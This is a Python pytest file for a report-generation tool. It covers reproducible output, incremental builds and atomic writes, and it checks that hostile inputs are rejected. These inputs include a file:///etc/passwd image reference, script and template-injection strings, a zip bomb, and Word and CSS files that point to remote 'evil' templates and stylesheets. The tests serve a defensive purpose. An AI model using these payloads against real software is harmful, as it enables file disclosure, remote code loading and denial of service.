"""The build matrix: reproducible bytes, incremental rebuilds, atomic writes, the manifest, release PDFs, and the
locked-down inputs (hostile content, translations and reference documents)."""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
from pypdf import PdfReader

from conftest import DEFAULT_THEME, ROOT, docx_bytes_io, edit, make_project, override, pdf_text, run_cli, write_files
from reportgen.writers import REGISTRY as WRITERS
from reportgen.pipeline import build


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_two_builds_of_the_same_inputs_are_byte_identical(built, tmp_path):
    again = tmp_path / "again"
    build(ROOT, again, langs=["en", "sr"], jobs=2)
    outputs = sorted(p.relative_to(again) for p in again.rglob("*.pdf")) + sorted(
        p.relative_to(again) for p in again.rglob("*.docx"))
    assert len(outputs) == 12
    for relative in outputs:
        assert _sha(again / relative) == _sha(built / relative), relative


def test_docx_has_fixed_zip_times_and_core_properties(built):
    with zipfile.ZipFile(built / "en/action-plan.docx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(2023, 6, 1, 0, 0, 0)}
    props = docx.Document(docx_bytes_io(built / "en/action-plan.docx")).core_properties
    assert props.created.isoformat() == props.modified.isoformat() == "2023-06-01T00:00:00+00:00"
    assert props.revision == 1 and props.author != "python-docx"


def test_manifest_lists_every_output_with_hashes_of_output_and_inputs(built):
    manifest = json.loads((built / "manifest.json").read_text("utf-8"))
    outputs = manifest["outputs"]
    documents = [relative for relative, entry in outputs.items() if "document" in entry]
    assert len(documents) == 3 * 8 * len(WRITERS)
    shared = sorted(relative for relative in outputs if relative not in documents)
    assert shared[-1] == "index.html" and all(r.startswith("assets/") for r in shared[:-1]) and len(shared) == 9
    for relative, entry in outputs.items():
        assert entry["sha256"] == _sha(built / relative)
    sq = outputs["sq/action-plan.pdf"]
    assert sq["inputs"]["translations/sq/LC_MESSAGES/messages.po"] == _sha(
        ROOT / "translations/sq/LC_MESSAGES/messages.po")
    assert "translations/hr/LC_MESSAGES/messages.po" not in sq["inputs"]
    assert sq["inputs"]["content/action-plan.yaml"] == _sha(ROOT / "content/action-plan.yaml")
    assert "content/progress/2024/round.yaml" not in sq["inputs"]
    assert outputs["en/progress-report-2024.docx"]["inputs"]["content/progress/2023/AL.yaml"]
    assert sq["draft"] == 0


def test_only_what_changed_is_rebuilt(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en", "hr", "sq"], progress=False)
    status, out, err = run_cli(capsys, "build", "--project", str(project), "-j", "2")
    assert status == 0 and "built: sq/action-plan.pdf" in err
    mtimes = {p: p.stat().st_mtime_ns for p in (project / "build").rglob("*.*")}
    status, out, err = run_cli(capsys, "build", "--project", str(project), "-j", "2")
    assert status == 0
    assert "built:" not in err and err.count("up to date:") == 3 * len(WRITERS)
    assert f"total           0           {3 * len(WRITERS)}       0      0" in out
    assert {p: p.stat().st_mtime_ns for p in (project / "build").rglob("*.*")} == mtimes
    edit(project, "translations/hr/LC_MESSAGES/messages.po", 'msgid "Contents"\nmsgstr "Sadržaj"',
         'msgid "Contents"\nmsgstr "Sadržaj dokumenta"')
    status, out, err = run_cli(capsys, "build", "--project", str(project), "-j", "2")
    assert status == 0
    assert sorted(re.findall(r"built: (\S+)", err)) == [f"hr/action-plan{w.suffix}" for w in sorted(
        WRITERS.values(), key=lambda w: w.suffix)]
    assert "Sadržaj dokumenta" in pdf_text(project / "build/hr/action-plan.pdf")


def test_a_failed_build_leaves_the_previous_outputs_untouched(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en"], progress=False)
    assert run_cli(capsys, "build", "--project", str(project), "-j", "1")[0] == 0
    before = {p.name: _sha(p) for p in (project / "build/en").iterdir()}
    edit(project, "templates/action-plan.html.j2", '<section class="introduction">',
         '<figure><img src="file:///etc/passwd" alt="x"></figure><section class="introduction">')
    edit(project, "content/action-plan.yaml", "Broker overall", "Broker all")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "-j", "1")
    assert status == 1
    assert "templates/action-plan.html.j2: error: refused resource 'file:///etc/passwd'" in err
    assert {p.name: _sha(p) for p in (project / "build/en").iterdir()} == before  # no temp files either


def test_release_pdf_is_pdfa3a_with_its_sources_embedded(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en", "sq"])
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--release", "--lang", "sq",
                             "--format", "pdf", "-j", "2")
    assert status == 0, err
    for doc in ("action-plan", "progress-report-2024"):
        reader = PdfReader(project / f"build/sq/{doc}.pdf")
        root = reader.trailer["/Root"]
        xmp = root["/Metadata"].get_object().get_data().decode()
        assert 'pdfaid:part="3"' in xmp and 'pdfaid:conformance="A"' in xmp
        assert root["/Lang"] == "sq"
        assert root["/MarkInfo"]["/Marked"] and "/StructTreeRoot" in root
        names = set(reader.attachments)
        assert "translations_sq_LC_MESSAGES_messages.po" in names and "content_action-plan.yaml" in names
        assert reader.attachments["content_action-plan.yaml"][0] == (project / "content/action-plan.yaml").read_bytes()
        for page in reader.pages:
            for font in page["/Resources"].get("/Font", {}).values():
                descendant = font.get_object()["/DescendantFonts"][0].get_object()
                assert "/FontFile2" in descendant["/FontDescriptor"].get_object()
    reader = PdfReader(project / "build/sq/progress-report-2024.pdf")
    assert "progress_2024_round.yaml" in " ".join(reader.attachments)
    assert "progress_2024_AL.yaml" in " ".join(reader.attachments)
    alts = _alternatives(reader.trailer["/Root"]["/StructTreeRoot"])
    assert len([a for a in alts if len(a) > 40]) == 2, alts  # both charts carry their text alternative


def _alternatives(node) -> list[str]:
    """Return every /Alt text in a structure tree."""
    node = node.get_object() if hasattr(node, "get_object") else node
    found = []
    if isinstance(node, dict):
        if "/Alt" in node:
            found.append(str(node["/Alt"]))
        if "/K" in node:
            found += _alternatives(node["/K"])
    elif isinstance(node, list):
        for child in node:
            found += _alternatives(child)
    return found


def test_release_fails_on_any_missing_translation(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en", "sq"], progress=False)
    edit(project, "translations/sq/LC_MESSAGES/messages.po", 'msgid "Contents"\nmsgstr "Përmbajtja"',
         'msgid "Contents"\nmsgstr ""')
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--release")
    assert status == 1
    assert re.search(r"messages\.po:\d+: error: untranslated: \"Contents\"", err)
    assert not (project / "build").exists()


def _headings(path: Path) -> list[int]:
    document = docx.Document(docx_bytes_io(path))
    return [int(p.style.name[-1]) for p in document.paragraphs if p.style.name.startswith("Heading ")]


@pytest.mark.parametrize("doc", ["action-plan", "progress-report-2024", "progress-report-2023"])
def test_docx_heading_levels_have_no_gaps_and_pictures_have_alt_text(built, doc):
    levels = _headings(built / f"en/{doc}.docx")
    assert levels[0] == 1
    assert all(b <= a + 1 for a, b in zip(levels, levels[1:]))
    with zipfile.ZipFile(built / f"en/{doc}.docx") as archive:
        xml = archive.read("word/document.xml").decode()
    for match in re.finditer(r"<wp:docPr [^>]*>", xml):
        assert re.search(r'descr="[^"]{20,}"', match.group(0)), match.group(0)


# -- locked down ----------------------------------------------------------------------------------------------

def test_template_syntax_and_html_in_content_are_printed_literally(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en"], progress=False)
    edit(project, "content/action-plan.yaml", "Broker overall cooperation",
         "Broker {{ 7+7 }} {% if true %}<script>alert(1)</script><img src=x> overall cooperation")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--lang", "en")
    assert status == 0, err
    text = " ".join(pdf_text(project / "build/en/action-plan.pdf").split())
    assert "Broker {{ 7+7 }} {% if true %}<script>alert(1)</script><img src=x> overall" in text
    paragraphs = [p.text for p in docx.Document(docx_bytes_io(project / "build/en/action-plan.docx")).paragraphs]
    assert any("Broker {{ 7+7 }} {% if true %}<script>alert(1)</script><img src=x>" in p for p in paragraphs)


def _reference_case(tmp_path: Path, data: bytes) -> Path:
    project = make_project(tmp_path, languages=["en"], progress=False)
    write_files(project, {"templates/reference.docx": data})
    return project


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _reference_with(name: str, data: bytes) -> bytes:
    source = zipfile.ZipFile(DEFAULT_THEME / "reference.docx")
    entries = {n: source.read(n) for n in source.namelist()}
    entries[name] = data
    return _zip(entries)


REMOTE_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
               b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
               b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example.com/t.dotm" '
               b'TargetMode="External"/></Relationships>')

REFERENCE_CASES = [
    ("not a zip", b"%PDF-1.7 not a word file",
     "reference document is not a Word file (not a zip archive)"),
    ("zip bomb", _zip({"word/document.xml": b"0" * (60 * 1024 * 1024)}),
     "reference document unpacks to more than 50 MiB or 500 parts (zip bomb?)"),
    ("not word", _zip({"hello.txt": b"hi"}),
     "reference document is not a Word document (no word/document.xml)"),
    ("remote template", _reference_with("word/_rels/settings.xml.rels", REMOTE_RELS),
     "reference document points to an external resource (word/_rels/settings.xml.rels: "
     "https://evil.example.com/t.dotm); remote templates and images are not allowed"),
]


@pytest.mark.parametrize("name,data,message", REFERENCE_CASES, ids=[c[0] for c in REFERENCE_CASES])
def test_bad_reference_documents_are_refused(capsys, tmp_path, name, data, message):
    project = _reference_case(tmp_path, data)
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--format", "docx")
    assert status == 1
    assert err.splitlines() == [f"templates/reference.docx: error: {message}",
                                "reportgen: 1 error(s); nothing was written"]
    assert not (project / "build").exists()


def test_oversized_reference_document_is_refused(capsys, tmp_path):
    project = _reference_case(tmp_path, b"PK" + b"\0" * (6 * 1024 * 1024))
    status, _, err = run_cli(capsys, "check", "--project", str(project))
    assert status == 1
    assert err.splitlines()[0] == "templates/reference.docx: error: file is larger than 5 MiB"


def test_reference_document_without_a_required_style_is_refused(capsys, tmp_path):
    document = docx.Document(DEFAULT_THEME / "reference.docx")
    style = document.styles["Draft Mark"]
    style.element.getparent().remove(style.element)
    out = io.BytesIO()
    document.save(out)
    project = _reference_case(tmp_path, out.getvalue())
    status, _, err = run_cli(capsys, "check", "--project", str(project))
    assert status == 1
    assert err.splitlines()[0] == ("templates/reference.docx: error: reference document lacks the style(s) "
                                   "'Draft Mark'; restore them or regenerate it with 'reportgen reference-docx'")


def test_a_stylesheet_pointing_outside_the_project_fails_the_build(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en"], progress=False)
    css = override(project, "print.css")
    css.write_text('@import url("https://example.org/evil.css");\n' + css.read_text("utf-8"), "utf-8")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--format", "pdf")
    assert status == 1
    assert "refused resource 'https://example.org/evil.css'" in err
    assert not (project / "build").exists()


def test_usage_errors_exit_2(capsys, tmp_path):
    status, _, err = run_cli(capsys, "build", "--project", str(ROOT), "--doc", "action-plam")
    assert status == 2
    assert err == ("reportgen: error: unknown document 'action-plam' (did you mean 'action-plan'?); available: "
                   "action-plan, progress-report-2023, progress-report-2024\n")
    status, _, err = run_cli(capsys, "build", "--project", str(ROOT), "--lang", "de")
    assert status == 2 and "language 'de' is not declared by the project" in err
    shutil.rmtree(tmp_path, ignore_errors=True)


def test_a_damaged_manifest_means_rebuild_and_bad_paths_are_usage_errors(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en"], progress=False)
    (project / "build").mkdir()
    (project / "build/manifest.json").write_text('{"outputs": []}', "utf-8")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--format", "docx")
    assert status == 0 and "built: en/action-plan.docx" in err
    (tmp_path / "a-file").write_text("x", "utf-8")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--out", str(tmp_path / "a-file"))
    assert status == 2 and "is not a folder" in err
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--out", str(project / "content/out"))
    assert status == 2 and "is inside the project's content/ folder" in err
    status, _, err = run_cli(capsys, "check", "--project", str(tmp_path / "nowhere"))
    assert status == 2 and err == f"reportgen: error: project folder '{tmp_path / 'nowhere'}' does not exist\n"


def test_an_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    from reportgen.pipeline import manifest as build_module

    target = tmp_path / "en/action-plan.pdf"
    target.parent.mkdir()
    target.write_bytes(b"old good file")

    def interrupted(source, destination):
        raise KeyboardInterrupt

    monkeypatch.setattr(build_module.os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build_module.atomic_write(target, b"new file, never complete")
    assert target.read_bytes() == b"old good file"
    assert [p.name for p in target.parent.iterdir()] == ["action-plan.pdf"]


def test_source_date_epoch_sets_the_documents_dates(capsys, tmp_path, monkeypatch):
    project = make_project(tmp_path, languages=["en"], progress=False)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1718150400")  # 2024-06-12
    status, _, err = run_cli(capsys, "build", "--project", str(project), "-j", "1")
    assert status == 0, err
    props = docx.Document(docx_bytes_io(project / "build/en/action-plan.docx")).core_properties
    assert props.created.isoformat() == "2024-06-12T00:00:00+00:00"
    info = PdfReader(project / "build/en/action-plan.pdf").metadata
    assert info["/CreationDate"].startswith("D:20240612000000")


@pytest.mark.parametrize("out", ["/proc/reportgen-out", "/sys/reportgen-out"])
def test_an_output_folder_that_cannot_be_made_is_a_usage_error_before_any_rendering(capsys, tmp_path, out):
    project = make_project(tmp_path, languages=["en"], progress=False)
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--out", out)
    assert status == 2
    assert err.startswith(f"reportgen: error: output folder '{out}' cannot be created or written in: ")


def test_the_build_lists_the_missing_strings_of_every_document_of_a_language(capsys, tmp_path):
    project = make_project(tmp_path, languages=["en", "hr"])
    po = project / "translations/hr/LC_MESSAGES/messages.po"
    text = po.read_text("utf-8")
    for msgid in ("Contents", "Executive summary"):  # one in both documents, one in the progress reports only
        start = text.index(f'msgid "{msgid}"\nmsgstr "')
        end = text.index("\n", start + len(msgid) + 9)
        text = text[:start] + f'msgid "{msgid}"\nmsgstr ""' + text[end:]
    po.write_text(text, "utf-8")
    status, _, err = run_cli(capsys, "build", "--project", str(project), "--lang", "hr", "--format", "docx", "-j", "1")
    assert status == 0, err
    assert "hr: 2 string(s) fall back to English; the documents are marked DRAFT:" in err


def test_a_lock_file_that_is_not_a_file_is_named_and_never_waited_on(capsys, tmp_path):
    import os

    project = make_project(tmp_path)
    lock = project / "build/.reportgen.lock"
    lock.parent.mkdir()
    os.mkfifo(lock)
    for args in (["build", "--format", "html", "--lang", "en"], ["questionnaire", "--round", "2024"]):
        status, _, err = run_cli(capsys, *args, "--project", str(project))
        assert status == 1
        assert f"{lock}: error: the build folder's lock file is not a regular file: remove it" in err
        assert "None" not in err
    assert sorted(p.name for p in (project / "build").iterdir()) == [".reportgen.lock"]
